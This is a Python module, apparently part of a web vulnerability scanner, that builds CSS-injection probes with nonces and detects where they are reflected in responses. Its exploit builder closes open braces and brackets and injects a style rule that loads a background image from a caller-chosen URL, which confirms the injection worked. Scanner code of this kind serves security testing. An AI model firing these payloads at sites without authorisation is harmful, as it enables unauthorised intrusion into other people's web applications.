"""Injection payload construction and reflection matching.

The reflection probe is a deliberately incomplete style directive carrying a
unique nonce; it is safe to leave behind on a target because it never parses
as a valid rule on its own.  The exploit form closes any open braces and
brackets in front of the reflection point and loads a background image from a
caller-chosen URL, which is the observable signal that injected style fired.
"""

from __future__ import annotations

import random
import string
from dataclasses import dataclass
from enum import Enum
from urllib.parse import quote, unquote

NONCE_LENGTH = 32
NONCE_ALPHABET = string.ascii_lowercase + string.digits

DEFAULT_CLOSER_COUNT = 20


class InvalidArgument(ValueError):
    pass


@dataclass(frozen=True)
class Nonce:
    value: str

    def __post_init__(self) -> None:
        if len(self.value) != NONCE_LENGTH or any(
            c not in NONCE_ALPHABET for c in self.value
        ):
            raise InvalidArgument(f"nonce must be {NONCE_LENGTH} chars of [a-z0-9]")


class NewlineVariant(Enum):
    """Percent-encoded newline bytes tried in front of the probe."""

    LF = "%0A"
    FF = "%0C"
    CR = "%0D"

    @property
    def code(self) -> str:
        return self.value


@dataclass(frozen=True)
class ReflectionPayload:
    encoded_text: str
    nonce: Nonce
    newline: NewlineVariant


@dataclass(frozen=True)
class ExploitPayload:
    text: str
    nonce_url: str
    closer_count: int


def generate_nonce(seed: int) -> Nonce:
    rng = random.Random(seed)
    return Nonce("".join(rng.choice(NONCE_ALPHABET) for _ in range(NONCE_LENGTH)))


def build_reflection_payload(nonce: Nonce, newline: NewlineVariant) -> ReflectionPayload:
    directive = "{}body{background:" + nonce.value + "}"
    return ReflectionPayload(
        encoded_text=newline.code + quote(directive, safe=""),
        nonce=nonce,
        newline=newline,
    )


def build_exploit_payload(
    nonce_url: str, closer_count: int = DEFAULT_CLOSER_COUNT
) -> ExploitPayload:
    if "://" not in nonce_url:
        raise InvalidArgument(f"nonce_url must be absolute: {nonce_url!r}")
    if closer_count < 1:
        raise InvalidArgument("closer_count must be >= 1")
    text = (
        "}" * closer_count
        + "]" * closer_count
        + "body{background:url("
        + nonce_url
        + ")}"
    )
    return ExploitPayload(text=text, nonce_url=nonce_url, closer_count=closer_count)


def encode_exploit(payload: ExploitPayload, newline: NewlineVariant) -> str:
    """URL-encoded form of the exploit text, with the newline prefix that made
    the reflection probe land."""
    return newline.code + quote(payload.text, safe="")


def decoded_payload_text(payload: ReflectionPayload) -> str:
    return unquote(payload.encoded_text)


def find_reflection(body: bytes, nonce: Nonce) -> list[int]:
    """All byte offsets where the nonce occurs in ``body``, ascending."""
    needle = nonce.value.encode("ascii")
    offsets: list[int] = []
    idx = body.find(needle)
    while idx != -1:
        offsets.append(idx)
        idx = body.find(needle, idx + 1)
    return offsets
